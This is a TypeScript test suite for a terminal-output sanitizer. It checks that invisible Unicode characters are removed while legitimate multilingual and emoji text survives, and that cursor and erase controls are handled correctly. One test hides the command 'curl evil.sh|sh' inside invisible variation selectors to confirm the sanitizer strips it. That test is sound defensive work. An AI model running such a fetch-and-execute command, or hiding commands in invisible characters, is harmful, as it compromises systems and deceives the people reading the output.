/**
 * The sanitizer's rules beyond escape sequences:
 * - invisible code points: every Default_Ignorable_Code_Point and the bidi marks are removed and
 *   counted by kind, except where real text needs them (emoji ZWJ sequences, one VS15/VS16 after a
 *   character that takes it, one ideographic variation selector after a CJK ideograph, ZWNJ/ZWJ
 *   between letters of scripts that use them). Persian, Hindi, emoji and CJK text keep fidelity;
 *   the committed range tables match the running node's Unicode data;
 * - line-moving controls become one line break and moves along the line one space (newline mode),
 *   so two words never merge;
 * - overwrite mode honours erase in line (EL 0/1/2), ECH, DCH, ICH and cursor moves within the
 *   line, and never shows text a terminal erased.
 */
import { execFileSync } from 'node:child_process';
import { resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { isInvisible, isUndrawn } from '../../shared/parser/invisible';
import { sanitize } from '../../shared/sanitize/sanitizer';
import { bytes, bytewise, clean, decodeStrict, sanitizeChunks, utf8 } from '../helpers/record';

const ow = (s: string | Uint8Array) => clean(typeof s === 'string' ? bytes(s) : s, { cr: 'overwrite' });

describe('invisible code points: fidelity of real text', () => {
  it.each([
    ['Persian with ZWNJ (mi-khaham, "I want")', 'می‌خواهم'],
    ['Persian with ZWNJ (ketab-ha, "books")', 'کتاب‌ها'],
    ['Hindi conjunct with ZWJ (half form)', 'क्‍ष'],
    ['Hindi with ZWNJ (no conjunct)', 'क्‌ष'],
    ['Malayalam chillu with ZWJ inside a word', 'ന്‍റെ'],
    ['emoji ZWJ family', '👨‍👩‍👧‍👦'],
    ['emoji ZWJ with skin tone', '👩🏽‍💻'],
    ['emoji ZWJ with VS16 (rainbow flag)', '🏳️‍🌈'],
    ['emoji ZWJ with VS16 (eye in speech bubble)', '👁️‍🗨️'],
    ['heart with VS16', '❤️'],
    ['text-style with VS15', '☺︎'],
    ['keycap', '1️⃣ #️⃣'],
    ['CJK ideograph with an ideographic variation selector', '葛󠄀'],
    ['Hebrew and Arabic', 'שלום עליכם, مرحبا بالعالم'],
    ['CJK, Hangul, kana', '漢字 한국어 ひらがな'],
    ['combining marks', 'e\u0301 n\u0303'],
  ])('%s passes unchanged, whole and byte by byte', (_name, text) => {
    const input = utf8(`${text}\n`);
    const { text: out, report } = sanitize(input);
    expect(decodeStrict(out)).toBe(`${text}\n`);
    expect(report.classes.invisible.count).toBe(0);
    expect(decodeStrict(sanitizeChunks(bytewise(input)).text)).toBe(`${text}\n`);
  });

  it('joiners and selectors where nothing needs them are removed and counted by kind', () => {
    const { text, report } = sanitize(utf8('a\u200db x\u200cy 😀\u200d! 漢\ufe0f 1\ufe0f\ufe0f 葛\u{e0100}\u{e0100} \u200b\u2060\ufeff'));
    // the first VS16 after 1 is kept (1 takes a presentation selector), the second is removed.
    expect(decodeStrict(text)).toBe('ab xy 😀! 漢 1\ufe0f 葛\u{e0100} ');
    expect(report.invisible).toMatchObject({ zero_width: 6, variation_selector: 3 });
  });

  it('a run of joiners between letters keeps at most one', () => {
    expect(clean(utf8('می\u200c\u200c\u200cخواهم'))).toBe('می\u200cخواهم');
    expect(clean(utf8('👨\u200d\u200d👩'))).toBe('👨\u200d👩');
  });

  it('a joiner followed by a removed control, or at the end of input, is removed', () => {
    expect(clean(utf8('👨\u200d\x1b[31m👩'))).toBe('👨👩');
    expect(clean(utf8('می\u200c'))).toBe('می');
    expect(clean(utf8('👨\u200d'))).toBe('👨');
  });

  it('variation selectors carry no hidden bytes after text that does not take them', () => {
    const hidden = [...'curl evil.sh|sh'].map((c) => String.fromCodePoint(0xe0100 + c.charCodeAt(0) - 0x10)).join('');
    expect(clean(utf8(`build finished 😀${hidden}`))).toBe('build finished 😀');
    expect(clean(utf8(`ok\ufe00\ufe01\ufe02\ufe03`))).toBe('ok');
  });

  it('the same in overwrite mode', () => {
    expect(ow(utf8('👨\u200d👩 a\u200bb می\u200cخواهم'))).toBe('👨\u200d👩 ab می\u200cخواهم');
  });

  it('the generated tables match this node: every Default_Ignorable_Code_Point is invisible, the interlinear annotation controls and what tmux does not draw too, nothing else', () => {
    const re = /^\p{Default_Ignorable_Code_Point}$/u;
    for (let cp = 0xa0; cp <= 0x10ffff; cp++) {
      if (cp >= 0xd800 && cp <= 0xdfff) continue;
      const want = re.test(String.fromCodePoint(cp)) || (cp >= 0xfff9 && cp <= 0xfffb) || isUndrawn(cp);
      if (isInvisible(cp) !== want) expect.fail(`U+${cp.toString(16)}`);
    }
    execFileSync(process.execPath, [resolve(__dirname, '../../scripts/gen-unicode-tables.mjs'), '--check']);
  });
});

describe('line-moving controls: one line break (newline mode)', () => {
  it.each([
    ['IND (ESC D)', '\x1bD'], ['NEL (ESC E)', '\x1bE'], ['RI (ESC M)', '\x1bM'], ['VT', '\x0b'], ['FF', '\x0c'],
    ['NEL (C2 85)', '\xc2\x85'], ['IND (C2 84)', '\xc2\x84'], ['RI (C2 8D)', '\xc2\x8d'],
    ['CNL', '\x1b[E'], ['CPL', '\x1b[2F'], ['CUU', '\x1b[A'], ['CUD', '\x1b[3B'], ['CUP', '\x1b[5;1H'], ['CUP home', '\x1b[H'],
    ['HVP', '\x1b[2;3f'], ['VPA', '\x1b[4d'], ['VPR', '\x1b[e'], ['IL', '\x1b[L'], ['DL', '\x1b[M'], ['SU', '\x1b[S'], ['SD', '\x1b[T'],
    ['DECSTBM', '\x1b[1;5r'], ['DECRC', '\x1b8'], ['SCORC', '\x1b[u'], ['RIS', '\x1bc'], ['8-bit CSI CUD (raw 0x9B)', '\x9bB'],
  ])('%s', (_name, ctl) => {
    expect(clean(bytes('safe', ctl, 'mode off'))).toBe('safe\nmode off');
  });

  it('several in a row, or next to a line feed, make one break; none at the start or end', () => {
    expect(clean(bytes('a\x1bD\x1bD\x0bb'))).toBe('a\nb');
    expect(clean(bytes('a\x1bD\nb'))).toBe('a\nb');
    expect(clean(bytes('\x1b[Ha\x1bD'))).toBe('a');
    expect(clean(bytes('a\r\x1bDb'))).toBe('a\nb');
  });
});

describe('moves along the line: one space (newline mode)', () => {
  it.each([
    ['CUF', '\x1b[C'], ['CUF 5', '\x1b[5C'], ['CHA', '\x1b[20G'], ['HPA', '\x1b[20`'], ['HPR', '\x1b[3a'], ['CHT', '\x1b[I'],
    ['CUB', '\x1b[D'], ['CBT', '\x1b[Z'], ['DECFI', '\x1b9'], ['HTJ (C2 89)', '\xc2\x89'],
  ])('%s', (_name, ctl) => {
    expect(clean(bytes('safe', ctl, 'mode'))).toBe('safe mode');
  });

  it('no space next to white space, at the start of a line, or at the end', () => {
    expect(clean(bytes('a \x1b[Cb'))).toBe('a b');
    expect(clean(bytes('a\x1b[C b'))).toBe('a b');
    expect(clean(bytes('\x1b[5Ca'))).toBe('a');
    expect(clean(bytes('a\x1b[5C'))).toBe('a');
    expect(clean(bytes('a\x1b[C\x1b[Db'))).toBe('a b');
  });

  it('SGR, erase and other controls that do not move add nothing', () => {
    expect(clean(bytes('safe\x1b[31m\x1b[Kmode\x1b[?25l'))).toBe('safemode');
  });
});

describe('overwrite mode never shows text a terminal erased', () => {
  it('the issue example: EL 2 after CR', () => {
    expect(ow('password: hunter2\r\x1b[2Kall good\n')).toBe('all good\n');
  });

  it.each([
    ['EL 0 (to end)', 'abcdef\r\x1b[3C\x1b[K', 'abc'],
    ['EL 0 explicit', 'abcdef\x1b[3D\x1b[0KX', 'abcX'],
    ['EL 1 (to start)', 'abcdef\x1b[3D\x1b[1K', '    ef'],
    ['EL 2 (all)', 'secret\x1b[2K', ''],
    ['EL 2 then text keeps the column', 'secret\x1b[2Kok', '      ok'],
    ['ECH', 'abcdef\r\x1b[2X', '  cdef'],
    ['ECH past the end', 'abcdef\r\x1b[3C\x1b[10X', 'abc'],
    ['DCH', 'abcdef\r\x1b[2P', 'cdef'],
    ['DCH in the middle', 'abcdef\r\x1b[C\x1b[P', 'acdef'],
    ['ICH', 'abcdef\r\x1b[2@', '  abcdef'],
    ['ICH then write', 'abcdef\r\x1b[C\x1b[2@XY', 'aXYbcdef'],
    ['CUB then overwrite', 'abc\x1b[2Ddef', 'adef'],
    ['CHA then overwrite', 'abcdef\x1b[2GX', 'aXcdef'],
    ['CUF over text', 'abcdef\r\x1b[2CX', 'abXdef'],
    ['CUF past the end leaves blanks', 'ab\x1b[3CX', 'ab   X'],
    ['a line-moving control starts a new line', 'abc\x1bDdef', 'abc\ndef'],
  ])('%s', (_name, input, want) => {
    expect(ow(input)).toBe(want);
  });

  it('the report counts what the line rules did', () => {
    const { report } = sanitize(bytes('abc\x1b[2K\x1b[Cx\x1bDy'), { cr: 'overwrite' });
    expect(report.line_control).toMatchObject({ erase_applied: 1, move_applied: 1, move_to_newline: 1 });
  });

  it('an insert or delete with a tail too long to shift drops the tail instead of shifting it', () => {
    const long = 'x'.repeat(2000);
    const { text, report } = sanitize(bytes(long, '\r\x1b[P'), { cr: 'overwrite' });
    expect(decodeStrict(text)).toBe('');
    expect(report.line_control.cells_withheld).toBe(2000);
  });

  it('cursor moves are bounded: a huge CUF or CHA stops at column 512', () => {
    expect(ow('\x1b[99999Cx').length).toBe(513);
    expect(ow('\x1b[99999Gx').length).toBe(513);
  });
});
